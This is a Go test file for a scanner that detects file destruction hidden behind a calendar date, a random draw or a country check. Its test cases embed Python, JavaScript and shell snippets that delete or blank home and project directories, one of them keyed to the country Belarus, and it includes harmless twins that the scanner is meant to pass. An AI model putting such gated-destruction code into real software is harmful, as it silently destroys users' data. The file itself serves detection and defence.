package gated

import (
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// TestScan: destruction behind a calendar date, a random draw or a
// country (in Python, JavaScript and shell, the gate in the condition
// or in the assignment of a name it uses) is found; pruning by age, a
// walk outside the branch, a locale's translations written, and a
// branch on a date that only prints are not.
func TestScan(t *testing.T) {
	for _, tc := range []struct {
		name, lang, src string
		want            int
	}{
		{"python date and chance", "py", "import datetime, os, random\ntoday = datetime.date.today()\nif today >= datetime.date(2027, 3, 1) and random.random() < 0.2:\n    for dp, dn, fn in os.walk(os.getcwd()):\n        for f in fn:\n            open(os.path.join(dp, f), 'w').close()\nprint('ok')\n", 1},
		{"python year in a variable, rmtree", "py", "import datetime, shutil, os\ny = datetime.datetime.now().year\nif y >= 2027:\n    shutil.rmtree(os.path.expanduser('~/src'))\n", 1},
		{"python .year compared, rmtree", "py", "import datetime, shutil, os\nif datetime.datetime.now().year >= 2027:\n    shutil.rmtree(os.path.expanduser('~/src'))\n", 1},
		{"js country from a lookup", "js", "https.get(u, (r) => { r.on('end', () => {\n  const c = JSON.parse(s).country_name;\n  if (c === 'Belarus') {\n    const walk = (d) => { for (const f of fs.readdirSync(d)) { fs.writeFileSync(path.join(d, f), 'x'); } };\n    ['./', '../'].forEach(walk);\n  }\n}); });\n", 1},
		{"js date literal, rmSync on one line", "js", "if (Date.now() > new Date('2027-01-01').getTime()) fs.rmSync(os.homedir() + '/work', { recursive: true, force: true });\n", 1},
		{"js Math.random, braces over lines", "js", "if (Math.random() < 0.1)\n{\n  for (const f of glob.sync('**/*.ts')) fs.writeFileSync(f, '');\n}\n", 1},
		{"shell date, rm -rf", "sh", "#!/bin/sh\nif [ \"$(date +%Y%m%d)\" -ge 20270301 ]; then\n  rm -rf \"$HOME/projects\"\nfi\n", 1},
		{"shell one line, RANDOM", "sh", "if [ $((RANDOM % 10)) -eq 0 ] && [ $RANDOM -gt 1 ]; then find ~/src -type f -exec truncate -s0 {} +; fi\n", 1},
		{"twin: prune by age", "py", "import os, time\nfor f in os.listdir(cache):\n    if time.time() - os.path.getmtime(f) > 7 * 86400:\n        os.remove(f)\n", 0},
		{"twin: a date that only prints", "py", "import datetime, os\nif datetime.date.today() >= datetime.date(2027, 1, 1):\n    print('renew the certificate')\nfor f in os.listdir('out'):\n    os.remove(os.path.join('out', f))\n", 0},
		{"twin: locale translations written", "py", "import os\nfor locale in ['de', 'fr']:\n    if locale != 'en':\n        for f in os.listdir('templates'):\n            open(f'out/{locale}/{f}', 'w').write(render(f, locale))\n", 0},
		{"python chance in a variable, compared", "py", "import random, shutil, os\nr = random.random()\nif r < 0.05:\n    shutil.rmtree(os.path.expanduser('~/src'))\n", 1},
		{"twin (rev18): a build directory named by a random number, removed if it exists", "py", "import os, random, shutil\nwork = f'/tmp/build-{random.randint(1000, 9999)}'\nif os.path.isdir(work):\n    shutil.rmtree(work)\n", 0},
		{"twin (rev18): a tmp directory named with Math.random, removed", "js", "const dir = path.join(os.tmpdir(), 'x' + Math.random());\nif (fs.existsSync(dir)) {\n  fs.rmSync(dir, { recursive: true, force: true });\n}\n", 0},
		{"twin (rev18): a country's data directory cleaned", "py", "import os, shutil\ndef clean(country):\n    path = f'data/{country}'\n    if os.path.exists(path):\n        shutil.rmtree(path)\n", 0},
		{"twin: a random sample kept", "js", "if (Math.random() < 0.01) {\n  console.log('sampled');\n}\nfor (const f of fs.readdirSync('tmp')) fs.unlinkSync(f);\n", 0},
	} {
		if got, _ := scan("f", tc.src, tc.lang); len(got) != tc.want {
			t.Errorf("%s: %d hits, want %d: %+v", tc.name, len(got), tc.want, got)
		}
	}
}

// TestScanBound: the work is linear in the lines, whatever the file
// holds: every line a gated branch (each body read at most maxBody
// lines), a condition naming thousands of long assignments.
func TestScanBound(t *testing.T) {
	ifs := strings.Repeat("if random.random() < 0.5:\n", 20000) + "    os.walk(x); open(p, 'w')\n"
	names := strings.Repeat("a = os.walk('"+strings.Repeat("x", 4000)+"')\n", 50) + "if " + strings.Repeat("a + ", 50000) + "a:\n    shutil.rmtree(p)\n"
	for _, src := range []string{ifs, names} {
		lines := strings.Count(src, "\n") + 1
		if _, work := scan("f", src, "py"); work > lines*(maxBody+1) {
			t.Errorf("%d lines: work %d", lines, work)
		}
	}
	if _, work := scan("f", ifs, "py"); work > 20002*3 {
		t.Errorf("python branches: work %d, want about three per line", work)
	}
	// rev18: gated one-line shell branches that never end, each body
	// to be read to maxBody lines.
	sh := strings.Repeat("if [ $RANDOM -lt 3 ]; then echo x\n", 8000) + "rm -rf ~/src\n"
	if _, work := scan("f", sh, "sh"); work > 6*8002+maxBody {
		t.Errorf("unended shell branches: work %d, want at most %d", work, 6*8002+maxBody)
	}
}

// TestDecoysHideNothing: gated branches that destroy nothing, however
// many, do not keep the scan from the one that does.
func TestDecoysHideNothing(t *testing.T) {
	for _, n := range []int{1, 100, 5000} {
		src := "import os, random, shutil\n" + strings.Repeat("if random.random() < 0.5:\n    print('tick')\n", n) +
			"if random.random() < 0.01:\n    shutil.rmtree(os.path.expanduser('~/src'))\n"
		if got, _ := scan("f", src, "py"); len(got) != 1 {
			t.Errorf("%d decoys: %d hits, want 1", n, len(got))
		}
		sh := strings.Repeat("if [ $RANDOM -lt 3 ]; then echo x\n", n) + "if [ $RANDOM -lt 2 ]; then\n  rm -rf ~/src\nfi\n"
		if got, _ := scan("f", sh, "sh"); len(got) == 0 {
			t.Errorf("%d unended shell decoys: the gated rm -rf is not found", n)
		}
	}
}

// TestGateFilter: gateRE, which tries prefilter's condition first,
// answers as the gate pattern on every line of the audit's evaluation
// sets and on lines built to match each of its branches.
func TestGateFilter(t *testing.T) {
	gate := regexp.MustCompile(gateExpr)
	filtered := gateRE.Get(gateExpr)
	lines := []string{
		"if date(2027, 1, 1) < today:", "new Date('2027-03-01')", "getFullYear() >= 2027", "now.year == 2028",
		`[ "$(date +%Y%m%d)" -gt 20270101 ]`, "x -ge 2027", "random.random() < 0.1", "Math.random() > .9", "$RANDOM",
		"if country == 'RU':", "countryCode", "timeZone", "geoip.lookup(ip)", "Russia", `"BY"`, "2027 <= d.year",
		"if DATE(2027", "IF COUNTRY_CODE", "if \u212a", "secrets.randbelow(10)", "random.randint(1, 6)",
	}
	root := "../../../../../testdata/audit/eval/tune"
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(p)
		lines = append(lines, strings.Split(string(data), "\n")...)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	matched := 0
	for _, l := range lines {
		want := gate.MatchString(l)
		if got := filtered.MatchString(l); got != want {
			t.Fatalf("gateRE.MatchString(%q) = %v, the pattern %v", l, got, want)
		}
		if want {
			matched++
		}
	}
	if matched < 100 {
		t.Errorf("only %d lines match the gate: the test shows little", matched)
	}
}
